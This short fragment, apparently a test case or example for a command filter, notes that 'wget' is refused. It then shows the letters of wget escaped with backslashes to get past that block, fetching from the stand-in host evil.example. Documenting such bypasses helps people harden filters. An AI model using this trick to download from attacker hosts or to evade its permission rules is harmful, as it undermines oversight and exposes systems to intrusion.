# Trick: backslashes stand inside the word.
# Refused: run(wget)
\w\g\e\t http://evil.example/
